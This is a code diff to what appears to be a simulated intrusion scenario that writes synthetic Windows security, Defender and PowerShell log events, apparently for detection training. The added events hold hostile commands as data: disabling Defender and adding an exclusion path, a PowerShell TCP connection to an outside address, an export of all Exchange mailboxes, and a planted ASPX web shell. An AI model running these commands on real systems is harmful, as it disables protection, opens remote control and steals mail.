@@ -1,3 +1,4 @@
+import { collectedFile, oneLineShell } from './files.ts'
 import type { Mark } from './output.ts'
 import type { World } from './world.ts'
 
@@ -423,6 +424,8 @@ export function owaSsrf(world: World): Planned[] {
   ]
 }
 
+const SUPPORT = 'S-1-5-21-1004336348-1177238915-682003330-1142'
+
 /** What people do once they are in: everything on one evening. */
 export function handsOn(world: World): Planned[] {
   const who: Outsider = {
@@ -491,10 +494,104 @@ export function handsOn(world: World): Planned[] {
             data: {
               TargetUserName: 'support',
               TargetDomainName: server.name,
+              TargetSid: SUPPORT,
               SubjectUserName: `${server.name}$`,
             },
           },
           mark('persistence'),
+        ),
+    ],
+    [
+      start + 4 * MINUTE,
+      (t) =>
+        world.events.write(
+          t,
+          'security',
+          {
+            provider: 'Microsoft-Windows-Security-Auditing',
+            id: 4732,
+            level: 'audit',
+            data: {
+              MemberSid: SUPPORT,
+              TargetUserName: 'Administrators',
+              SubjectUserName: `${server.name}$`,
+            },
+          },
+          mark('persistence'),
+        ),
+    ],
+    ...Array.from({ length: 14 }, (_, i): Planned => [
+      start - HOUR + i * 20_000,
+      // One of them alone is a mistyped password; together they are not.
+      (t) => world.refusedLogon(t, `user${String(i).padStart(3, '0')}`, who.address),
+    ]),
+    [
+      start - 2 * MINUTE,
+      (t) =>
+        collectedFile(
+          world,
+          t,
+          'C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx',
+          oneLineShell('orange'),
+          mark('shell-file'),
+        ),
+    ],
+    [
+      start + 17 * MINUTE,
+      (t) =>
+        world.scriptBlock(
+          t,
+          'Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\ProgramData',
+          mark('removal'),
+        ),
+    ],
+    [start + 17 * MINUTE + 800, (t) => world.defender(t, 5001, {}, mark('removal'))],
+    [
+      start + 17 * MINUTE + 900,
+      (t) =>
+        world.defender(
+          t,
+          5007,
+          {
+            'Old Value': '',
+            'New Value':
+              'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData = 0x0',
+          },
+          mark('removal'),
+        ),
+    ],
+    [
+      start + 19 * MINUTE,
+      (t) =>
+        world.scriptBlock(
+          t,
+          "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.72',443); $s = $c.GetStream()",
+          mark('control'),
+        ),
+    ],
+    [
+      start + 44 * MINUTE,
+      (t) =>
+        world.scriptBlock(
+          t,
+          'Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-Mailbox | New-MailboxExportRequest',
+          mark('mail'),
+        ),
+    ],
+    [
+      start + 3 * HOUR,
+      (t) =>
+        world.defender(
+          t,
+          1116,
+          {
+            'Threat Name': 'Backdoor:ASP/Chopper.G!dha',
+            'Severity Name': 'Severe',
+            Path: 'file:_C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx',
+            'Process Name': 'Unknown',
+            'Detection User': 'NT AUTHORITY\\SYSTEM',
+          },
+          mark('shell-file'),
         ),
     ],
     [
